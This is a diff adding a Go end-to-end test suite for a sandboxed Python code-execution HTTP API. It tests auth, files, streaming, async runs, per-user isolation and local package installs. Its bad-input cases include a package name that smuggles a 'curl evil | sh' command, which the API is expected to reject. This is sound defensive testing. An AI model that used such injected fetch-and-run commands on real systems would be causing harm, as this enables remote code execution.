@@ -1,0 +1,328 @@
+package api_test
+
+import (
+	"bufio"
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+)
+
+// TestEndToEnd drives the service through HTTP as a frontend would. The
+// subtests share one session, in order: each builds on the state the
+// previous ones left.
+func TestEndToEnd(t *testing.T) {
+	s := newStack(t)
+	const sid = "e2e-chat"
+	base := "/v1/sessions/" + sid
+
+	t.Run("auth", func(t *testing.T) {
+		resp, body := s.req("", "POST", base+"/execute", strings.NewReader(`{"code":"1"}`))
+		s.problem(401, resp, body)
+		if resp.Header.Get("WWW-Authenticate") == "" {
+			t.Fatal("401 without WWW-Authenticate")
+		}
+		resp, body = s.req("sbx_not-a-real-key", "GET", "/v1/sessions", nil)
+		s.problem(401, resp, body)
+		resp, body = s.req("", "GET", "/v1/sessions", nil, "X-API-Key", s.alice)
+		if resp.StatusCode != 200 {
+			t.Fatalf("X-API-Key: %d %s", resp.StatusCode, body)
+		}
+	})
+
+	var firstSandbox string
+	t.Run("execute starts the sandbox", func(t *testing.T) {
+		resp, body := s.req(s.alice, "GET", base+"/sandbox", nil)
+		s.problem(404, resp, body)
+		r := s.exec(s.alice, sid, "x = 21\nprint('hello')\nx * 2")
+		if !r.Success || r.Stdout != "hello\n" || r.text() != "42" {
+			t.Fatalf("result %+v", r)
+		}
+		var v sessionView
+		s.json(s.alice, "GET", base+"/sandbox", nil, &v)
+		if v.State != "running" || v.SandboxID == "" || v.SessionID != sid {
+			t.Fatalf("status %+v", v)
+		}
+		firstSandbox = v.SandboxID
+	})
+
+	t.Run("state across calls", func(t *testing.T) {
+		if r := s.exec(s.alice, sid, "x + 1"); r.text() != "22" {
+			t.Fatalf("result %+v", r)
+		}
+	})
+
+	t.Run("errors in code", func(t *testing.T) {
+		r := s.exec(s.alice, sid, "1/0")
+		if r.Success || r.Error == nil || r.Error.Name != "ZeroDivisionError" {
+			t.Fatalf("result %+v", r)
+		}
+	})
+
+	t.Run("small files", func(t *testing.T) {
+		resp, body := s.req(s.alice, "PUT", base+"/files/content?path=data/hello.csv", strings.NewReader("a,b\n1,2\n"))
+		if resp.StatusCode != 200 || !strings.Contains(string(body), `"path":"/home/user/data/hello.csv"`) {
+			t.Fatalf("put: %d %s", resp.StatusCode, body)
+		}
+		resp, body = s.req(s.alice, "GET", base+"/files/content?path=/home/user/data/hello.csv", nil)
+		if resp.StatusCode != 200 || string(body) != "a,b\n1,2\n" || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") ||
+			resp.Header.Get("Content-Length") != "8" {
+			t.Fatalf("get: %d %v %q", resp.StatusCode, resp.Header, body)
+		}
+		if r := s.exec(s.alice, sid, "open('data/hello.csv').read().count(',')"); r.text() != "2" {
+			t.Fatalf("kernel sees %+v", r)
+		}
+		var list struct {
+			Entries []struct{ Name, Path, Type string } `json:"entries"`
+		}
+		s.json(s.alice, "GET", base+"/files?path=data", nil, &list)
+		if len(list.Entries) != 1 || list.Entries[0].Name != "hello.csv" || list.Entries[0].Type != "file" {
+			t.Fatalf("list %+v", list)
+		}
+		s.json(s.alice, "PUT", base+"/files/content?path=data/gone.txt", nil, nil)
+		resp, body = s.req(s.alice, "DELETE", base+"/files?path=data/gone.txt", nil)
+		if resp.StatusCode != 204 {
+			t.Fatalf("delete: %d %s", resp.StatusCode, body)
+		}
+		resp, body = s.req(s.alice, "GET", base+"/files/content?path=data/gone.txt", nil)
+		s.problem(404, resp, body)
+	})
+
+	t.Run("install from a local wheel index", func(t *testing.T) { installFromLocalIndex(t, s, sid) })
+
+	t.Run("reset keeps files", func(t *testing.T) {
+		s.exec(s.alice, sid, "y = 5")
+		resp, body := s.req(s.alice, "POST", base+"/reset", nil)
+		if resp.StatusCode != 204 {
+			t.Fatalf("reset: %d %s", resp.StatusCode, body)
+		}
+		if r := s.exec(s.alice, sid, "y"); r.Error == nil || r.Error.Name != "NameError" {
+			t.Fatalf("variable survived the reset: %+v", r)
+		}
+		if r := s.exec(s.alice, sid, "open('data/hello.csv').read() == 'a,b\\n1,2\\n'"); r.text() != "True" {
+			t.Fatalf("file lost in reset: %+v", r)
+		}
+	})
+
+	t.Run("live NDJSON streaming", func(t *testing.T) { streamLive(t, s, sid) })
+
+	t.Run("async runs", func(t *testing.T) { asyncRuns(t, s, sid) })
+
+	t.Run("one principal cannot see another's", func(t *testing.T) {
+		var list struct {
+			Sessions []sessionView `json:"sessions"`
+		}
+		s.json(s.bob, "GET", "/v1/sessions", nil, &list)
+		if len(list.Sessions) != 0 {
+			t.Fatalf("bob sees %+v", list)
+		}
+		resp, body := s.req(s.bob, "GET", base+"/sandbox", nil)
+		s.problem(404, resp, body)
+		var mine sessionView
+		s.json(s.alice, "GET", base+"/sandbox", nil, &mine)
+		// The same session id names bob's own session: a sandbox of his,
+		// without alice's files or variables.
+		resp, body = s.req(s.bob, "GET", base+"/files/content?path=data/hello.csv", nil)
+		s.problem(404, resp, body)
+		if r := s.exec(s.bob, sid, "'x' in globals()"); r.text() != "False" {
+			t.Fatalf("bob's kernel knows alice's x: %+v", r)
+		}
+		var his sessionView
+		s.json(s.bob, "GET", base+"/sandbox", nil, &his)
+		if his.SandboxID == "" || his.SandboxID == mine.SandboxID {
+			t.Fatalf("bob's sandbox %q, alice's %q", his.SandboxID, mine.SandboxID)
+		}
+		s.json(s.bob, "POST", base+"/sandbox/stop", nil, nil)
+		s.json(s.alice, "GET", "/v1/sessions?limit=10", nil, &list)
+		if len(list.Sessions) != 1 || list.Sessions[0].SessionID != sid || list.Sessions[0].SandboxID != mine.SandboxID {
+			t.Fatalf("alice sees %+v", list)
+		}
+	})
+
+	t.Run("bad input", func(t *testing.T) {
+		cases := []struct {
+			method, path, body string
+			status             int
+		}{
+			{"POST", base + "/execute", `{"code":`, 400},
+			{"POST", base + "/execute", `{"code":"1","extra":true}`, 400},
+			{"POST", "/v1/sessions/bad%20id/execute", `{"code":"1"}`, 400},
+			{"POST", base + "/install", `{"packages":["x; curl evil | sh"]}`, 400},
+			{"GET", base + "/files/content?path=a%00b", "", 400},
+			{"GET", "/v1/sessions?limit=1000", "", 400},
+			{"GET", "/v1/runs/nope", "", 404},
+			{"DELETE", base + "/execute", "", 405},
+			{"GET", "/v1/nowhere", "", 404},
+		}
+		for _, tc := range cases {
+			var body *strings.Reader
+			if tc.body != "" {
+				body = strings.NewReader(tc.body)
+			}
+			var resp *http.Response
+			var b []byte
+			if body != nil {
+				resp, b = s.req(s.alice, tc.method, tc.path, body)
+			} else {
+				resp, b = s.req(s.alice, tc.method, tc.path, nil)
+			}
+			s.problem(tc.status, resp, b)
+		}
+	})
+
+	t.Run("stop then execute restarts", func(t *testing.T) {
+		var v sessionView
+		s.json(s.alice, "POST", base+"/sandbox/stop", nil, &v)
+		if v.State != "stopped" {
+			t.Fatalf("after stop %+v", v)
+		}
+		if r := s.exec(s.alice, sid, "'x' in globals()"); r.text() != "False" {
+			t.Fatalf("a fresh kernel must not know x: %+v", r)
+		}
+		s.json(s.alice, "GET", base+"/sandbox", nil, &v)
+		if v.State != "running" || v.SandboxID == "" || v.SandboxID == firstSandbox {
+			t.Fatalf("after restart %+v (first sandbox %s)", v, firstSandbox)
+		}
+	})
+}
+
+// streamLive checks output reaches the client while the code still runs:
+// the code waits for a file that the test writes only after it has read
+// the first line.
+func streamLive(t *testing.T, s *stack, sid string) {
+	code := "import os, time\nprint('waiting', flush=True)\n" +
+		"for _ in range(600):\n    if os.path.exists('go.flag'): break\n    time.sleep(0.05)\n" +
+		"print('released')\n'done'"
+	req, _ := http.NewRequest("POST", s.url+"/v1/sessions/"+sid+"/execute", strings.NewReader(fmt.Sprintf(`{"code":%q}`, code)))
+	req.Header.Set("Authorization", "Bearer "+s.alice)
+	req.Header.Set("Accept", "application/x-ndjson")
+	resp, err := s.client.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "application/x-ndjson" {
+		t.Fatalf("status %d %s", resp.StatusCode, resp.Header.Get("Content-Type"))
+	}
+	sc := bufio.NewScanner(resp.Body)
+	sc.Buffer(make([]byte, 1<<20), 1<<20)
+	var lines []map[string]any
+	released := false
+	for sc.Scan() {
+		var l map[string]any
+		if err := json.Unmarshal(sc.Bytes(), &l); err != nil {
+			t.Fatalf("line %q: %v", sc.Text(), err)
+		}
+		lines = append(lines, l)
+		if !released && l["type"] == "stdout" && strings.Contains(l["text"].(string), "waiting") {
+			released = true
+			s.json(s.alice, "PUT", "/v1/sessions/"+sid+"/files/content?path=go.flag", nil, nil)
+		}
+	}
+	if !released {
+		t.Fatalf("never saw the first line live: %v", lines)
+	}
+	last := lines[len(lines)-1]
+	result, _ := last["result"].(map[string]any)
+	if last["type"] != "done" || !strings.Contains(fmt.Sprint(result["stdout"]), "released") {
+		t.Fatalf("last line %v", last)
+	}
+}
+
+func asyncRuns(t *testing.T, s *stack, sid string) {
+	var first, again struct {
+		RunID  string `json:"runId"`
+		Status string `json:"status"`
+	}
+	resp := s.json(s.alice, "POST", "/v1/sessions/"+sid+"/runs", map[string]any{"code": "6 * 7"}, &first, "Idempotency-Key", "e2e-run-1")
+	if resp.StatusCode != 202 || first.RunID == "" || resp.Header.Get("Location") != "/v1/runs/"+first.RunID {
+		t.Fatalf("submit: %d %+v %s", resp.StatusCode, first, resp.Header.Get("Location"))
+	}
+	s.json(s.alice, "POST", "/v1/sessions/"+sid+"/runs", map[string]any{"code": "6 * 7"}, &again, "Idempotency-Key", "e2e-run-1")
+	if again.RunID != first.RunID {
+		t.Fatalf("same idempotency key, new run: %s vs %s", again.RunID, first.RunID)
+	}
+	var run struct {
+		RunID, SessionID, Status string
+		Result                   *execResult
+	}
+	deadline := time.Now().Add(2 * time.Minute)
+	for {
+		s.json(s.alice, "GET", "/v1/runs/"+first.RunID, nil, &run)
+		if run.Status == "succeeded" || run.Status == "failed" || time.Now().After(deadline) {
+			break
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	if run.Status != "succeeded" || run.SessionID != sid || run.Result == nil || run.Result.text() != "42" {
+		t.Fatalf("run %+v", run)
+	}
+	resp, body := s.req(s.bob, "GET", "/v1/runs/"+first.RunID, nil)
+	s.problem(404, resp, body)
+}
+
+// installFromLocalIndex serves a PEP 503 index of a wheel built here from
+// inside the sandbox (sandboxes have no network to the host; PyPI is out of
+// reach anyway) and installs from it through the API, streaming.
+func installFromLocalIndex(t *testing.T, s *stack, sid string) {
+	base := "/v1/sessions/" + sid
+	name, wheel := buildWheel(t, "sbxdemo", "1.0", "from-the-wheel")
+	resp, body := s.req(s.alice, "PUT", base+"/files/content?path=/home/user/index/sbxdemo/"+name, bytes.NewReader(wheel))
+	if resp.StatusCode != 200 || !strings.Contains(string(body), fmt.Sprintf(`"size":%d`, len(wheel))) {
+		t.Fatalf("put wheel: %d %s", resp.StatusCode, body)
+	}
+	page := fmt.Sprintf(`<!DOCTYPE html><html><body><a href="%s">%s</a></body></html>`, name, name)
+	resp, body = s.req(s.alice, "PUT", base+"/files/content?path=/home/user/index/sbxdemo/index.html", strings.NewReader(page))
+	if resp.StatusCode != 200 {
+		t.Fatalf("put index: %d %s", resp.StatusCode, body)
+	}
+	r := s.exec(s.alice, sid, "import subprocess, socket, sys, time\n"+
+		"srv = subprocess.Popen([sys.executable, '-m', 'http.server', '--bind', '127.0.0.1', '--directory', '/home/user/index', '8765'],"+
+		" stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"+
+		"for _ in range(100):\n    try:\n        socket.create_connection(('127.0.0.1', 8765), 0.2).close(); break\n"+
+		"    except OSError: time.sleep(0.05)\n'up'")
+	if r.text() != "up" && r.text() != "'up'" {
+		t.Fatalf("index server: %+v", r)
+	}
+	req, _ := http.NewRequest("POST", s.url+base+"/install",
+		strings.NewReader(`{"packages":["sbxdemo==1.0"],"indexUrl":"http://127.0.0.1:8765/"}`))
+	req.Header.Set("Authorization", "Bearer "+s.alice)
+	req.Header.Set("Accept", "application/x-ndjson")
+	hresp, err := s.client.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer hresp.Body.Close()
+	sc := bufio.NewScanner(hresp.Body)
+	sc.Buffer(make([]byte, 1<<20), 1<<20)
+	var last map[string]any
+	outputLines := 0
+	for sc.Scan() {
+		last = nil
+		if err := json.Unmarshal(sc.Bytes(), &last); err != nil {
+			t.Fatalf("line %q: %v", sc.Text(), err)
+		}
+		if last["type"] == "stdout" || last["type"] == "stderr" {
+			outputLines++
+		}
+	}
+	result, _ := last["result"].(map[string]any)
+	if last["type"] != "done" || result["success"] != true || outputLines == 0 {
+		t.Fatalf("install ended with %v after %d output lines", last, outputLines)
+	}
+	if r := s.exec(s.alice, sid, "srv.kill(); srv.wait(); 'stopped'"); !r.Success {
+		t.Fatalf("stop the index server: %+v", r.Error)
+	}
+	// pip installs into the user site when the system Python is externally
+	// managed; a kernel started before that directory existed does not have
+	// it on sys.path, so the package is checked in a fresh kernel.
+	if resp, body := s.req(s.alice, "POST", base+"/reset", nil); resp.StatusCode != 204 {
+		t.Fatalf("reset: %d %s", resp.StatusCode, body)
+	}
+	if r := s.exec(s.alice, sid, "import sbxdemo; sbxdemo.VALUE == 'from-the-wheel'"); r.text() != "True" {
+		t.Fatalf("installed package: %+v %+v", r, r.Error)
+	}
+}
